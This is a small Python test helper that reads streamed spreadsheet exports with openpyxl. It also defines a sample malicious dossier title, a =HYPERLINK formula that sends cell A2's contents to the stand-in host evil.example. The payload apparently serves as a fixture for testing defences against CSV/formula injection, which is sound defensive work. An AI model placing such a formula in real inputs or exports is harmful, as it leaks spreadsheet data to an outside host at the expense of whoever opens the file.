"""Reading the organisers' exports as a browser would: they stream, so their body is joined."""

import io

from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet would run as a formula, typed by an applicant as a dossier's title.
HYPERLINK_TITLE = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def sheet(response) -> Worksheet:
    return load_workbook(io.BytesIO(body(response))).active


def sheet_rows(response) -> list[list]:
    return [list(row) for row in sheet(response).iter_rows(values_only=True)]
